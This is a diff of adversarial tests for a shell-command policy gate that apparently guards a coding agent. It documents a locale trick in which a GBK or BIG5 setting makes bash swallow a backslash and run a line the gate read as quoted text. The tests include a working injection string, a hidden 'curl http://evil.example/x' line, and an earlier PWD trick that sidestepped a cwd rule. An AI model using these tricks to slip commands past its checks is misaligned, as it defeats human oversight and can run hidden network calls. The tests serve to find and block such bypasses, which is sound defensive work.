@@ -7,18 +7,26 @@ shell runs otherwise than the gate read it, then what the gate now decides.
   ..`` against that text. ``PWD=<a link to the cwd> bash -c 'cd ../X && git status'``
   ran git in the link's sibling X, while the gate decided it in ``<cwd>/../X``: a rule
   pinned by ``cwd`` was walked around. ``PWD`` is now ``environment-override``.
+* ``LC_ALL``, ``LC_CTYPE``, ``LANG``: bash reads its script as bytes in its locale, and
+  in a double-byte one (GBK, GB18030, BIG5, BIG5-HKSCS) a backslash right after a
+  character whose last byte is a lead byte is swallowed into it and escapes nothing:
+  ``LC_ALL=zh_CN.GBK`` on one line, and on the next a quote the gate read as escaped
+  opened a string for bash, so a later line the gate read as quoted text ran. They are
+  now ``environment-override`` unless their value is known and read as here (``C``,
+  ``POSIX``, empty, a UTF-8 codeset); ``LOCPATH`` (where glibc finds locales) always.
 """
 
 from __future__ import annotations
 
 import os
 import shutil
+import subprocess
 from pathlib import Path
 
 import pytest
 
 from sidecar.policy.compiler import CompiledPolicy
-from tests.adversarial.command_lines import check_line
+from tests.adversarial.command_lines import check_line, command_argvs, construct_names
 from tests.adversarial.real_bash import needs_bash, run_bash, run_program
 
 ALLOW_LIST = """
@@ -92,3 +100,104 @@ def test_a_pwd_given_to_a_new_shell_is_an_override(allow_list: CompiledPolicy, l
 
 def test_a_cd_in_the_workspace_still_meets_the_pinned_rule(allow_list: CompiledPolicy) -> None:
     assert check_line(allow_list, "cd /workspace && git status").decision == "allow"
+
+
+# -- LC_ALL, LC_CTYPE, LANG, LOCPATH: how bash reads the rest of the script ---------------
+
+# U+4E05 is E4 B8 85 in UTF-8; 0x85 after 0xB8 is one GBK character, and so is 0x5C
+# (the backslash) after 0x85: bash sees no backslash before the quote.
+SWALLOWED = "echo A \u4e05\\' '\necho INJECTED\n'"
+
+
+@pytest.fixture
+def gbk_locales(tmp_path: Path) -> Path:
+    """A directory holding zh_CN.GBK, for LOCPATH (as an image with it installed)."""
+    localedef = shutil.which("localedef")
+    if localedef is None or not Path("/usr/share/i18n/charmaps/GBK.gz").exists():
+        pytest.skip("localedef or the GBK charmap is not installed")
+    locales = tmp_path / "locales"
+    locales.mkdir()
+    made = subprocess.run(
+        [localedef, "-i", "zh_CN", "-f", "GBK", str(locales / "zh_CN.GBK")],
+        capture_output=True,
+        timeout=60,
+        check=False,
+    )
+    if made.returncode not in (0, 1):  # 1: made, with warnings
+        pytest.skip(f"localedef failed: {made.stderr!r}")
+    return locales
+
+
+@needs_bash
+@pytest.mark.parametrize("variable", ["LC_ALL", "LC_CTYPE", "LANG"])
+def test_a_double_byte_locale_makes_bash_run_a_line_read_as_quoted(
+    gbk_locales: Path, tmp_path: Path, variable: str
+) -> None:
+    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LOCPATH": str(gbk_locales)}
+
+    def lines(assignment: str) -> list[bytes]:
+        # Bytes: bash's complaint about the quote left open is in GBK.
+        argv = ["bash", "-c", f"{assignment}\n{SWALLOWED}"]
+        done = subprocess.run(
+            argv, cwd=tmp_path, env=env, capture_output=True, timeout=20, check=False
+        )
+        return done.stdout.splitlines()
+
+    assert b"INJECTED" not in lines(f"{variable}=C.UTF-8")
+    assert b"INJECTED" in lines(f"{variable}=zh_CN.GBK")
+
+
+def test_the_gate_reads_the_injected_line_as_an_argument() -> None:
+    assert command_argvs(f"LC_ALL=C.UTF-8\n{SWALLOWED}") == [
+        ("echo", "A", "\u4e05'", "\necho INJECTED\n")
+    ]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"LC_ALL=zh_CN.GBK\n{SWALLOWED}",
+        f"LANG=zh_TW.BIG5\n{SWALLOWED}",
+        f'LC_CTYPE=zh_CN.GB18030 bash -c "{SWALLOWED}"',
+        f'env LC_ALL=zh_CN.GBK bash -c "{SWALLOWED}"',
+        f"export LC_CTYPE=zh_CN.GBK; {SWALLOWED}",
+        f"declare -x LANG=zh_CN.GBK; {SWALLOWED}",
+        f'sudo LC_ALL=zh_CN.GBK bash -c "{SWALLOWED}"',
+        f"read LC_ALL; {SWALLOWED}",
+        f'LC_ALL=$X bash -c "{SWALLOWED}"',
+        f'export "LANG=$X"; {SWALLOWED}',
+        f"LANG+=.GBK; {SWALLOWED}",
+        f"LANG=zh_TW; {SWALLOWED}",  # zh_TW's default codeset is BIG5
+        f"LANG=/workspace/x.UTF-8; {SWALLOWED}",  # a path: any locale, whatever its name
+        f'LOCPATH=/workspace/locales LANG=C.UTF-8 bash -c "{SWALLOWED}"',
+        f'env LOCPATH=/usr/lib/locale bash -c "{SWALLOWED}"',
+    ],
+)
+def test_a_locale_not_known_to_read_as_here_is_an_override(line: str) -> None:
+    assert "environment-override" in construct_names(line)
+
+
+def test_a_double_byte_locale_is_refused_by_the_shipped_policy(
+    coding_agent: CompiledPolicy,
+) -> None:
+    line = "LC_ALL=zh_CN.GBK\ngit status \u4e05\\' '\ncurl http://evil.example/x\n'"
+    verdict = check_line(coding_agent, line)
+    assert verdict.decision == "deny"
+    assert "environment-override" in verdict.reason, verdict.reason
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "LC_ALL=C sort f",
+        "LANG=en_US.UTF-8 make",
+        "LC_ALL=POSIX ls",
+        "LC_ALL= LANG=C.utf8 ls",
+        "LC_CTYPE=en_US.utf-8@euro ls",
+        "env LC_ALL=C.UTF-8 ls",
+        "export LANG=C.UTF-8; ls",
+        "declare -x LC_ALL=C; ls",
+    ],
+)
+def test_a_locale_read_as_here_is_not_an_override(line: str) -> None:
+    assert "environment-override" not in construct_names(line)
